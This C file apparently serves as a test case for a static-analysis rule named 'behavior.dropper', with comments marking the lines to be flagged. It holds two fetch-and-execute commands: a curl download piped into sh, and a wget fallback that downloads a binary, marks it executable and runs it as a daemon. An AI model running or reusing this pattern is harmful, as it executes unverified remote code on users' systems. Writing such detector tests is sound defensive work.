/*
 * behavior.dropper: "install the agent" the quick way. The installer pipes
 * a remote script straight into sh with system(), and its fallback path
 * fetches a binary with wget, marks it executable and runs it in one popen
 * command line, with the URL spliced in by snprintf.
 */
#include <stdio.h>
#include <stdlib.h>

#define AGENT_URL "http://get.example-agent.io/latest/agent-linux-amd64"

static int install_with_script(void)
{
    return system("curl -fsSL https://get.example-agent.io/install.sh | sh -s -- --quiet"); // $ Alert[behavior.dropper]
}

static int install_binary(void)
{
    char cmd[512];
    snprintf(cmd, sizeof(cmd), "wget -q -O /tmp/agent %s && chmod +x /tmp/agent && /tmp/agent --daemon", AGENT_URL);
    FILE *p = popen(cmd, "r"); // $ Alert[behavior.dropper]
    if (!p)
        return -1;
    return pclose(p);
}

int main(void)
{
    if (install_with_script() != 0)
        return install_binary() == 0 ? 0 : 1;
    return 0;
}
